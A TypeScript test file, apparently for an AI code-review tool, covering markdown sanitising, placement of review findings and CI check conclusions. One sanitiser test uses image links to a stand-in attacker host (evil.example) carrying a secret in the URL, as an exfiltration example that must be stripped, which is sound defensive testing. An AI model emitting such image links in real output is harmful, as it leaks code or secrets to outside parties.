import type { Finding, RunReport } from '@agentflow/contracts';
import { checkConclusion } from './conclusion';
import { fenceFor, sanitizeMarkdown, stripImages, stripMentions } from './markdown';
import { diffLinesOf, placeFindings } from './placement';
import { renderInline } from './summary';

const f = (
  fp: string,
  severity: Finding['severity'],
  line: number,
  extra: Partial<Finding> = {},
): Finding => ({
  file: 'A.swift',
  startLine: line,
  endLine: line,
  severity,
  category: 'bug',
  message: `m ${fp}`,
  confidence: 0.8,
  agent: 'code-review',
  model: 'm',
  source: 'model',
  fingerprint: fp,
  ...extra,
});

describe('markdown sanitising', () => {
  it('breaks mentions so they do not notify, but leaves e-mail addresses and code alone', () => {
    expect(stripMentions('ask @octocat and @acme/ios-team')).toBe(
      'ask @\u200doctocat and @\u200dacme/ios-team',
    );
    expect(stripMentions('mail dev@example.com')).toBe('mail dev@example.com');
  });

  it('removes markdown and HTML images, which could carry code out in their URL', () => {
    expect(
      stripImages('see ![diagram](https://evil.example/x?c=secret) and <img src="https://evil.example/y">'),
    ).toBe('see [image: diagram] and [image removed]');
    expect(sanitizeMarkdown('<!-- agentflow:summary workflow=x -->')).not.toContain('<!--');
  });

  it('fences suggestions longer than any backtick run inside them', () => {
    expect(fenceFor('let a = 1')).toBe('```');
    expect(fenceFor('```swift\ncode\n```')).toBe('````');
    const body = renderInline(f('x', 'major', 3, { suggestion: { replacement: 'let s = "```"' } }), 'github');
    expect(body).toContain('````suggestion\nlet s = "```"\n````');
    expect(
      renderInline(f('y', 'major', 3, { endLine: 5, suggestion: { replacement: 'a' } }), 'gitlab'),
    ).toContain('```suggestion:-2+0\na\n```');
  });
});

describe('placing findings', () => {
  const diffLines = new Map([
    ['A.swift', diffLinesOf('@@ -1,2 +1,12 @@\n a\n+b\n+c\n+d\n+e\n+f\n+g\n+h\n+i\n+j\n+k\n l')],
  ]);
  const base = {
    findingStates: {},
    diffLines,
    dismissed: () => false,
    alreadyPosted: new Set<string>(),
    maxInline: 3,
    inlineEnabled: true,
    annotationsEnabled: true,
  };

  it('puts at most N findings inline, major and worse first, and annotates the rest without repeating them', () => {
    const findings = [
      f('m1', 'minor', 2),
      f('b1', 'blocker', 3),
      f('j1', 'major', 4),
      f('j2', 'major', 5, { confidence: 0.95 }),
      f('j3', 'major', 6),
      f('out', 'blocker', 90),
    ];
    const p = placeFindings({ ...base, findings });
    expect(p.inline.map((x) => x.fingerprint)).toEqual(['b1', 'j2', 'j1']);
    expect(p.annotations.map((x) => x.fingerprint).sort()).toEqual(['j3', 'm1', 'out']);
    expect(p.outsideDiff.map((x) => x.fingerprint)).toEqual(['out']);
    expect(p.summaryOnly.map((x) => x.fingerprint)).not.toContain('b1');
  });

  it('never re-posts a still-open finding, drops fixed and dismissed ones', () => {
    const findings = [
      f('open', 'major', 3),
      f('fixed', 'major', 4),
      f('gone', 'blocker', 5),
      f('new', 'major', 6),
    ];
    const p = placeFindings({
      ...base,
      findings,
      findingStates: { fixed: 'fixed', open: 'open' },
      alreadyPosted: new Set(['open']),
      dismissed: (fp) => fp === 'gone',
    });
    expect(p.inline.map((x) => x.fingerprint)).toEqual(['new']);
    expect(p.stillOpen.map((x) => x.fingerprint)).toEqual(['open']);
    expect([...p.annotations, ...p.summaryOnly].map((x) => x.fingerprint)).not.toContain('gone');
    expect([...p.annotations, ...p.summaryOnly].map((x) => x.fingerprint)).not.toContain('fixed');
  });
});

describe('check conclusion', () => {
  const report = (over: Partial<RunReport>): RunReport => ({
    runId: 'r',
    workflow: 'w',
    change: { platform: 'github', repo: 'a/b', headSha: 'h' },
    findings: [],
    findingStates: {},
    notReviewed: [],
    proposedFiles: [],
    steps: {},
    usage: {
      inputTokens: 0,
      outputTokens: 0,
      cacheReadTokens: 0,
      cacheWriteTokens: 0,
      costUsd: 0,
      vendorMs: 0,
      models: [],
    },
    startedAt: 0,
    finishedAt: 1,
    gateConclusion: 'failure',
    gateSummary: '1 blocker',
    rollout: 'gate',
    outputs: {},
    ...over,
  });

  it('follows the gate in gate rollout and never blocks otherwise', () => {
    expect(checkConclusion(report({}), false).conclusion).toBe('failure');
    expect(checkConclusion(report({ rollout: 'comment' }), false).conclusion).toBe('neutral');
    expect(checkConclusion(report({ gateConclusion: 'success', rollout: 'comment' }), false).conclusion).toBe(
      'success',
    );
  });

  it('is neutral when the run was degraded, a step ran out of budget, or the run failed', () => {
    expect(checkConclusion(report({ degraded: true }), false).conclusion).toBe('neutral');
    expect(
      checkConclusion(
        report({
          steps: {
            s: {
              state: 'failed',
              attempts: 1,
              durationMs: 1,
              errorMessage: 'budget_exceeded: monthly budget spent',
            },
          },
        }),
        false,
      ).conclusion,
    ).toBe('neutral');
    expect(checkConclusion(report({}), true).conclusion).toBe('neutral');
  });
});
